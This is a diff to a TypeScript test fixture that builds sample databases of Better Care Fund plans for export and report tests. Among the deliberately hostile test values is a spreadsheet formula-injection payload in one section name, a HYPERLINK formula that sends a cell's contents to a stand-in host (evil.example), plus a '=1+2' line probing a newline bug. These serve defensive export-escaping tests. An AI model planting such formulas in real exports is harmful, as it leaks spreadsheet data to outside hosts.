@@ -1,10 +1,11 @@
 // Test databases for export and report: several realistic plans written with the store's own saveDocument.
 // Values follow the hand-checked gold records (../shared/gold) where they exist; hostile text is added on purpose.
-import { mkdtempSync } from 'node:fs';
+import { copyFileSync, mkdirSync, mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { PlanRecordSchema, type PlanRecord } from '../src/record/schema.js';
+import { dirname, join } from 'node:path';
+import { PlanRecordSchema, SCHEMA_VERSION, type PlanRecord } from '../src/record/schema.js';
 import { openStore, saveDocument, type FileMeta } from '../src/store/db.js';
+import { finishRun, startRun } from '../src/store/state.js';
 
 const ok: FileMeta = { size: 200_391, mtimeMs: 1_700_000_000_000, status: 'ok', failureReason: null, duplicateOf: null };
 
@@ -48,7 +49,7 @@ const risk = (description: string, likelihood: number | null, impact: number | n
 
 /** Derby City, revised 2014 template, PDF with pages: scored risk log, a score mismatch, a placeholder section. */
 export const derby2014: PlanRecord = PlanRecordSchema.parse({
-  schemaVersion: 1, extractorVersion: 'test-1',
+  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
   source: { file: '2014/derby-city-bcf.pdf', sha256: 'a'.repeat(64), format: 'pdf', pages: 31 },
   template: 'bcf-2014-revised',
   area: { localAuthorities: ['Derby City Council'], ccgs: ['NHS Southern Derbyshire CCG'], healthAndWellbeingBoard: 'Derby City Health and Well-being Board' },
@@ -60,11 +61,11 @@ export const derby2014: PlanRecord = PlanRecordSchema.parse({
     { ref: '4', name: 'Enablers, Workforce and "Digital" Systems', theme: null, page: 10, text: null },
   ],
   budgets: [
-    { kind: 'minimum_pooled_budget', year: '2014/15', amountGbp: 957000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£957,000', page: 1 },
-    { kind: 'minimum_pooled_budget', year: '2015/16', amountGbp: 17403000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£17,403,000', page: 1 },
-    { kind: 'total_pooled_budget', year: '2014/15', amountGbp: 5264000, scheme: null, label: 'Total agreed value of pooled budget: 2014/15', text: '£5,264,000', page: 1 },
-    { kind: 'total_pooled_budget', year: '2015/16', amountGbp: 17403000, scheme: null, label: 'Total agreed value of pooled budget: 2015/16', text: '£17,403,000', page: 1 },
-    { kind: 'other', year: '2015/16', amountGbp: -129506, scheme: null, label: 'Adjustment, carried forward', text: '-£129,506', page: 22 },
+    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 957000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£957,000', page: 1 },
+    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 17403000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£17,403,000', page: 1 },
+    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 5264000, scheme: null, label: 'Total agreed value of pooled budget: 2014/15', text: '£5,264,000', page: 1 },
+    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 17403000, scheme: null, label: 'Total agreed value of pooled budget: 2015/16', text: '£17,403,000', page: 1 },
+    { kind: 'other', year: '2015-16', amountGbp: -129506, scheme: null, label: 'Adjustment, carried forward', text: '-£129,506', page: 22 },
   ],
   risks: [
     risk('BCF does not achieve the planned reductions in Acute activity at the required rate due to delays in implementation', 4, 5, 20, 'high', 7),
@@ -72,7 +73,7 @@ export const derby2014: PlanRecord = PlanRecordSchema.parse({
     risk('Social Care cuts affect delivery of targets and ability to fund preventive services', 4, 5, 20, 'high', 7),
     risk('Insufficient recruitment of qualified and skilled preventive staff', 4, 5, 20, 'high', 8),
     risk('Information Governance: local arrangements contingent upon national agreement on data sharing', 4, 4, 12, 'high', 8),
-    risk('Patient, service user and carer resistance to schemes requiring behavioural change', 3, 3, 9, 'medium', 8),
+    risk('Patient, service user and carer resistance to schemes requiring behavioural change', 3, 3, 9, 'medium', 8, 'Engagement events in each locality\nx\n=1+2 (a line a bare-LF bug would turn into a formula)'),
   ],
   metrics: [
     { metric: 'non_elective_admissions', label: 'Total number of non-elective FFCEs in general & acute', period: '2013-14', kind: 'actual', value: 28884, unit: 'count', numerator: null, denominator: null, page: 29, text: '28,884' },
@@ -91,7 +92,7 @@ export const derby2014: PlanRecord = PlanRecordSchema.parse({
 
 /** Staffordshire, original 2014 template, DOCX (no pages): unsigned, placeholders, a missing section, hostile text. */
 export const staffordshire2014: PlanRecord = PlanRecordSchema.parse({
-  schemaVersion: 1, extractorVersion: 'test-1',
+  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
   source: { file: '2014/staffordshire-bcf.docx', sha256: 'b'.repeat(64), format: 'docx', pages: null },
   template: 'bcf-2014-original',
   area: {
@@ -106,10 +107,10 @@ export const staffordshire2014: PlanRecord = PlanRecordSchema.parse({
     { ref: '3', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', theme: 'Prevention, "early help"\nand self-care', page: null, text: null },
   ],
   budgets: [
-    { kind: 'minimum_pooled_budget', year: '2014/15', amountGbp: 16000000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£16,000,000', page: null },
-    { kind: 'minimum_pooled_budget', year: '2015/16', amountGbp: 56108000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£56,108,000', page: null },
-    { kind: 'total_pooled_budget', year: '2014/15', amountGbp: 16000000, scheme: null, label: 'Total proposed value of pooled budget: 2014/15', text: '£16,000,000', page: null },
-    { kind: 'total_pooled_budget', year: '2015/16', amountGbp: 56108000, scheme: null, label: 'Total proposed value of pooled budget: 2015/16', text: '£56,108,000', page: null },
+    { kind: 'minimum_pooled_budget', year: '2014-15', amountGbp: 16000000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2014/15', text: '£16,000,000', page: null },
+    { kind: 'minimum_pooled_budget', year: '2015-16', amountGbp: 56108000, scheme: null, label: 'Minimum required value of ITF pooled budget: 2015/16', text: '£56,108,000', page: null },
+    { kind: 'total_pooled_budget', year: '2014-15', amountGbp: 16000000, scheme: null, label: 'Total proposed value of pooled budget: 2014/15', text: '£16,000,000', page: null },
+    { kind: 'total_pooled_budget', year: '2015-16', amountGbp: 56108000, scheme: null, label: 'Total proposed value of pooled budget: 2015/16', text: '£56,108,000', page: null },
   ],
   risks: [
     risk('CCGs are unable to release 3% of their budgets to fund BCF plans', null, null, null, 'high', null, 'Focus activity on approaches most likely to deliver financial benefits, "as well as" population outcomes'),
@@ -127,11 +128,11 @@ export const staffordshire2014: PlanRecord = PlanRecordSchema.parse({
 });
 
 const scheme2022 = (name: string, amount: number, source: string) =>
-  ({ kind: 'scheme_spend' as const, year: '2022/23', amountGbp: amount, scheme: name, source, label: 'Expenditure', text: `£${amount.toLocaleString('en-GB')}`, page: null });
+  ({ kind: 'scheme_spend' as const, year: '2022-23', amountGbp: amount, scheme: name, source, label: 'Expenditure', text: `£${amount.toLocaleString('en-GB')}`, page: null });
 
 /** Derby 2022/23 planning template (text file): full income and metrics, no flags. */
 export const derby2022: PlanRecord = PlanRecordSchema.parse({
-  schemaVersion: 1, extractorVersion: 'test-1',
+  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
   source: { file: '2022/derby-bcf-2022-23.txt', sha256: 'c'.repeat(64), format: 'txt', pages: null },
   template: 'bcf-2022-23',
   area: { localAuthorities: ['Derby City Council'], ccgs: ['NHS Derby and Derbyshire ICB'], healthAndWellbeingBoard: 'Derby Health and Wellbeing Board' },
@@ -142,11 +143,11 @@ export const derby2022: PlanRecord = PlanRecordSchema.parse({
     { ref: null, name: 'Carers Support', theme: null, page: null, text: null },
   ],
   budgets: [
-    { kind: 'dfg', year: '2022/23', amountGbp: 2323304, scheme: null, label: 'DFG', text: '£2,323,304', page: null },
-    { kind: 'ibcf', year: '2022/23', amountGbp: 12045014, scheme: null, label: 'iBCF', text: '£12,045,014', page: null },
-    { kind: 'la_additional_contribution', year: '2022/23', amountGbp: 269682, scheme: null, label: 'Additional LA Contribution', text: '£269,682', page: null },
-    { kind: 'nhs_minimum_contribution', year: '2022/23', amountGbp: 20620231, scheme: null, label: 'Minimum NHS Contribution', text: '£20,620,231', page: null },
-    { kind: 'total_pooled_budget', year: '2022/23', amountGbp: 35258231, scheme: null, label: 'Total BCF Pooled Budget', text: '£35,258,231', page: null },
+    { kind: 'dfg', year: '2022-23', amountGbp: 2323304, scheme: null, label: 'DFG', text: '£2,323,304', page: null },
+    { kind: 'ibcf', year: '2022-23', amountGbp: 12045014, scheme: null, label: 'iBCF', text: '£12,045,014', page: null },
+    { kind: 'la_additional_contribution', year: '2022-23', amountGbp: 269682, scheme: null, label: 'Additional LA Contribution', text: '£269,682', page: null },
+    { kind: 'nhs_minimum_contribution', year: '2022-23', amountGbp: 20620231, scheme: null, label: 'Minimum NHS Contribution', text: '£20,620,231', page: null },
+    { kind: 'total_pooled_budget', year: '2022-23', amountGbp: 35258231, scheme: null, label: 'Total BCF Pooled Budget', text: '£35,258,231', page: null },
     scheme2022('Integrated Community Equipment', 1997385, 'Minimum NHS Contribution'),
     scheme2022('Social Care assessments and cost of care', 6259171, 'iBCF'),
     scheme2022('Carers Support', 779444, 'Minimum NHS Contribution'),
@@ -168,7 +169,7 @@ export const derby2022: PlanRecord = PlanRecordSchema.parse({
 
 /** A PDF that could not be read: what the pipeline writes for it (failedRecord). */
 export const failedPlan: PlanRecord = PlanRecordSchema.parse({
-  schemaVersion: 1, extractorVersion: 'test-1',
+  schemaVersion: SCHEMA_VERSION, extractorVersion: 'test-1',
   source: { file: '2015/encrypted-plan.pdf', sha256: 'd'.repeat(64), format: 'pdf', pages: null },
   template: 'unknown',
   area: { localAuthorities: [], ccgs: [], healthAndWellbeingBoard: null },
@@ -186,10 +187,15 @@ export const removedPlan: PlanRecord = PlanRecordSchema.parse({
 export interface FixtureDb {
   dir: string;
   dbFile: string;
+  /** The input folder of the recorded run; holds a real PDF at the paged plan's path, for the report's links. */
+  inputDir: string;
   ids: { derby2014: number; staffordshire2014: number; derby2022: number; failed: number; removed: number };
 }
 
-/** A fresh output folder holding plansift.sqlite with the five plans above. */
+/**
+ * A fresh output folder holding plansift.sqlite with the five plans above, and a runs row as an unchanged re-run
+ * leaves it (nothing processed, nothing failed in it, while the failed plan is still failing).
+ */
 export async function buildFixtureDb(): Promise<FixtureDb> {
   const dir = mkdtempSync(join(tmpdir(), 'plansift-export-'));
   const dbFile = join(dir, 'plansift.sqlite');
@@ -204,7 +210,12 @@ export async function buildFixtureDb(): Promise<FixtureDb> {
     };
     // What the run does when a file has gone from the input: keep its rows, mark it removed.
     await db.run("UPDATE documents SET status = 'removed', removed_at = '2026-11-20T02:00:00.000Z' WHERE id = ?", [ids.removed]);
-    return { dir, dbFile, ids };
+    const inputDir = join(dir, 'input');
+    mkdirSync(dirname(join(inputDir, derby2014.source.file)), { recursive: true });
+    copyFileSync(new URL('../fixtures/sample/northmoor-2014-revised.pdf', import.meta.url), join(inputDir, derby2014.source.file));
+    const run = await startRun(db, inputDir, 'test-1', new Date('2026-11-23T02:00:00.000Z'));
+    await finishRun(db, run, { processed: 0, skipped: 4, failed: 0, removed: 0, relinked: 0 }, [], new Date('2026-11-23T02:00:05.000Z'));
+    return { dir, dbFile, inputDir, ids };
   } finally {
     await db.close();
   }
